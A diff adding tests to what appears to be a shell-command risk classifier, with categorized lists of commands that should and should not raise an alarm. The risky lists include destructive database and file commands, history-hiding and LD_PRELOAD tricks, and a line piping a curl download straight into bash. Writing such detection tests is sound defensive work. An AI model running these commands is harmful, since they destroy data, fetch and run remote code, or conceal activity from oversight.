@@ -111,6 +111,42 @@ def test_what_is_dangerous_raises_an_alarm(line):
     assert READ(line).risk is Risk.RAISED, READ(line)
 
 
+RISKY_BY_CLASS = {
+    "verbs of subcommands": ["fly apps destroy x", "consul leave", "nats kv del a b", "az aks upgrade", "pm2 kill"],
+    "verbs of tasks": ["./gradlew flywayClean", "make k8s-apply", "cargo sqlx database reset", "php bin/x db:drop"],
+    "names of scripts": ["bash scripts/wipe.sh", "python delete_users.py", "./install.sh"],
+    "statements": ["psql -c 'discard all'", "wp db query 'DROP TABLE x'", "./q 'delete from a'", "pg_dump a | psql b"],
+    "code": ["node -e \"fs.truncateSync('x')\"", "python -c 'pickle.load(f)'", "ruby -e 'File.write(\"/etc/x\", 1)'"],
+    "starters": ["chrt -f 1 rm x", "unshare -r rm x", "nix-shell --run 'rm x'", "conda run -n a rm x"],
+    "places elsewhere": ["scp a web1:/b", "rsync -a a web1:/b", "aws s3 cp a s3://b", "docker cp a web:/b"],
+    "emptied files": ["cat /dev/null > a", "echo -n > a"],
+    "hidden words": ["{rm,-rf,a}", "LD_PRELOAD=./x.so ls", "unset HISTFILE", "bash < <(curl -s https://x.example)"],
+    "merged options": ["apt-get -yqq purge a", "pacman -Rns a", "git commit -nm x"],
+    "what is agreed to": ["yes | ./setup"],
+}  # fmt: skip
+NOT_RISKY = [
+    *("kubectl get deploy", "gcloud run services describe api", "fly releases list", "npm run test:delete"),
+    *("scp web1:/var/log/a.log .", "aws s3 cp s3://b/a a", "docker exec web df -h", "ssh web1 'uptime; free -m'"),
+    *(
+        "python test_delete.py",
+        "bash -n deploy.sh",
+        "psql -c 'select 1; show all'",
+        "curl -s x | head",
+        "uv add 'httpx>=1'",
+    ),
+    *("yes | head -5", "xvfb-run -a npm test", "python manage.py migrate --plan", "kafka-topics --list"),
+]
+
+
+def test_what_is_dangerous_raises_an_alarm_by_its_class():
+    found = {line for lines in RISKY_BY_CLASS.values() for line in lines if READ(line).risk is not Risk.RAISED}
+    assert found == set()
+
+
+def test_what_looks_like_it_does_not():
+    assert [line for line in NOT_RISKY if READ(line).risk is Risk.RAISED] == []
+
+
 READS = [
     "git status -sb",
     "git log --oneline -20 | head -5",
